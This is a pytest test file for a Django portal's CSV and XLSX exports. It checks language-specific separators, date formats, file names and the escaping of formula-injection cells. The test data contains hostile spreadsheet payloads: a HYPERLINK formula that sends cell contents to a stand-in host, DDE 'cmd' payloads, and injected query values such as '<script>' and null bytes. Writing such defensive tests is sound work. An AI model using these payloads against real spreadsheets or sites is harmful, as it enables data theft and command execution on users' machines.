"""Every CSV export goes through one writer, which keeps text a spreadsheet would run as a
formula (=, +, -, @, tab, carriage return first) as text, and numbers as numbers, and writes for
Excel in the reader's language: a byte-order mark, ";" in Russian and Kazakh, "," in English."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from urllib.parse import quote

import pytest
import time_machine
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from akimat import exports
from akimat.calendar import ensure_calendar
from journal import services as journal_services
from scores import scoring
from tests.conftest import WORKDAY_MORNING
from tests.factories import DepartmentFactory, head_of
from tests.reception.factories import ServiceFactory, VisitFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "+7 701 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(content: bytes | str, delimiter: str = ";") -> list[list[str]]:
    """The rows of a CSV written in Russian (or Kazakh): ";"-separated, after the BOM."""
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


# What Excel reads: in ru and kk ";" between cells and a decimal comma; a cell holding the
# separator is quoted.
WRITTEN = {
    "ru": ["Управление;Доля", '"А; Б";14,3', "В,Г;2"],
    "kk": ["Управление;Доля", '"А; Б";14,3', "В,Г;2"],
    "en": ["Управление,Доля", "А; Б,14.3", '"В,Г",2'],
}


@pytest.mark.parametrize("language", WRITTEN)
def test_a_csv_is_written_for_excel_in_the_readers_language(language):
    with translation.override(language):
        text = exports.csv_text(["Управление", "Доля"], [["А; Б", Decimal("14.3")], ["В,Г", 2]])
    assert text.startswith("\ufeff")
    assert text[1:].splitlines() == WRITTEN[language]


@pytest.mark.parametrize(("language", "separator"), [("kk", ";"), ("en", ",")])
def test_the_exports_follow_the_readers_language(client, deputy, language, separator):
    deputy.language = language
    deputy.save(update_fields=["language"])
    client.force_login(deputy)
    response = client.get(reverse("reception:stats"), {"export": "csv"})
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    header = next(csv.reader(io.StringIO(text[1:]), delimiter=separator))
    assert len(header) > 5  # the header split into its columns by this separator


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_cell_that_starts_a_formula_is_written_as_text(formula):
    with translation.override("ru"):
        rows = rows_of(exports.csv_text(["Название"], [[formula]]))
    assert rows[1] == ["'" + formula]


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    line = [-5, Decimal("-1.5"), -0.25, 0, None, "Управление", "сумма = 5", "5-3"]
    with translation.override("ru"):
        rows = rows_of(exports.csv_text(["a", "b", "c", "d", "e", "f", "g", "h"], [line]))
    assert rows[1] == ["-5", "-1,5", "-0,25", "0", "", "Управление", "сумма = 5", "5-3"]


def test_an_xlsx_cell_that_looks_like_a_formula_is_text():
    book = load_workbook(io.BytesIO(exports.xlsx_bytes(["a", "b"], [[FORMULAS[0], -5]], title="t")))
    cell, number = book.active["A2"], book.active["B2"]
    assert cell.data_type == "s" and cell.value == FORMULAS[0]
    assert number.value == -5


@pytest.fixture
def evil_department(db):
    department = DepartmentFactory(slug="evil", name_ru=FORMULAS[0], name_kk=FORMULAS[0])
    head_of(department, username="evil.head", last_name="-Ахметов")
    return department


def test_the_dashboard_csv_neutralises_formulas(client, deputy, evil_department):
    scoring.ensure_default_policy()
    cache.clear()
    with time_machine.travel(WORKDAY_MORNING, tick=False):
        ensure_calendar(start=dt.date(2026, 1, 1), end=dt.date(2026, 12, 31))
        client.force_login(deputy)
        response = client.get(reverse("dashboard"), {"export": "csv"})
    line = next(row for row in rows_of(response.content) if "HYPERLINK" in row[0])
    assert line[0] == "'" + FORMULAS[0] and line[1].startswith("'-Ахметов")
    assert line[2] == "0"  # a figure stays a number


def test_the_reception_statistics_csv_neutralises_formulas(client, deputy, evil_department):
    VisitFactory(service=ServiceFactory(department=evil_department))
    client.force_login(deputy)
    response = client.get(reverse("reception:stats"), {"export": "csv"})
    line = next(row for row in rows_of(response.content) if "HYPERLINK" in row[0])
    assert line[0] == "'" + FORMULAS[0] and line[1] == "1"


def test_the_logbook_csv_neutralises_formulas_in_every_text_column(
    client, methodologist, department
):
    tag = "-тег"
    journal_services.create_entry(
        author=methodologist, title=FORMULAS[0], body=FORMULAS[3], tags=[tag]
    )
    today = timezone.localdate().isoformat()
    client.force_login(methodologist)
    response = client.get(
        reverse("journal:export"), {"date_from": today, "date_to": today, "format": "csv"}
    )
    line = rows_of(response.content)[1]
    assert line[3] == "'" + FORMULAS[0] and line[4] == "'" + FORMULAS[3]
    assert line[5] == "'" + tag


# --- lists (akimat.exports.list_download): every list of the portal --------------------------


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_list_xlsx_keeps_formulas_as_text(formula):
    content = exports.list_xlsx(["Текст"], [[formula]], title="Список")
    sheet = load_workbook(io.BytesIO(content)).active
    cell = sheet["A2"]
    assert cell.value == formula and cell.data_type == "s"


def test_a_list_writes_dates_as_dd_mm_yyyy_in_both_files():
    day = dt.date(2026, 11, 2)
    moment = dt.datetime(2026, 11, 13, 18, 30, tzinfo=WORKDAY_MORNING.tzinfo)
    with translation.override("ru"):
        text = exports.csv_text(["День", "Момент"], [[day, moment]])
    assert rows_of(text)[1] == ["02.11.2026", "13.11.2026 18:30"]
    sheet = load_workbook(
        io.BytesIO(exports.list_xlsx(["a", "b"], [[day, moment]], title="x"))
    ).active
    assert sheet["A2"].number_format == "DD.MM.YYYY"
    assert sheet["B2"].number_format == "DD.MM.YYYY HH:MM"
    assert sheet["B2"].value == dt.datetime(2026, 11, 13, 18, 30)  # noqa: DTZ001 (Excel: local, no zone)


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("ru", "Мои задачи 18.11.2026.xlsx"),
        ("kk", "Менің тапсырмаларым 18.11.2026.xlsx"),
        ("en", "My tasks 18.11.2026.xlsx"),
    ],
)
def test_a_lists_file_is_named_in_the_readers_language_with_the_day(language, expected):
    with translation.override(language):
        name = exports.file_name(gettext_lazy("My tasks"), "xlsx", dt.date(2026, 11, 18))
        response = exports.download(b"", name=name, kind="xlsx")
    assert name == expected
    # RFC 6266: the name beyond ASCII is sent encoded, so every browser saves it as written.
    assert response["Content-Disposition"].startswith("attachment;")
    disposition = response["Content-Disposition"]
    assert quote(expected) in disposition if language != "en" else expected in disposition


@pytest.mark.parametrize("value", ["\x00", "<script>", "xls", "CSV", "x" * 5000])
def test_an_unknown_export_value_is_the_page_itself(rf, value):
    assert exports.export_kind(rf.get("/", {"export": value})) is None
    assert exports.export_kind(rf.get("/", {"export": "csv"})) == "csv"


EXPORTED_WITH_HOSTILE_FILTERS = [
    ("/tasks/", {"overdue_page": "\x00"}, "specialist"),
    ("/tasks/board/", {"source": "<script>", "priority": "9" * 30}, "head"),
    ("/tasks/board/", {"person": "\x00"}, "head"),
    ("/plans/", {"page": "-1"}, "specialist"),
    ("/reception/log/", {"day": "9999-12-31"}, "deputy"),
    ("/reception/log/", {"day": "\x00"}, "deputy"),
    ("/reception/cases/", {"state": "\u202eopen"}, "deputy"),
    ("/score/", {"date": "0001-01-01"}, "specialist"),
    ("/score/", {"person": "\x00"}, "head"),
]


@pytest.mark.parametrize(("path", "query", "who"), EXPORTED_WITH_HOSTILE_FILTERS)
def test_an_export_with_hostile_filters_never_gets_a_500(client, request, path, query, who):
    client.force_login(request.getfixturevalue(who))
    response = client.get(path, {**query, "export": "csv"})
    assert response.status_code < 500
    assert "\x00" not in response.content.decode("utf-8-sig")
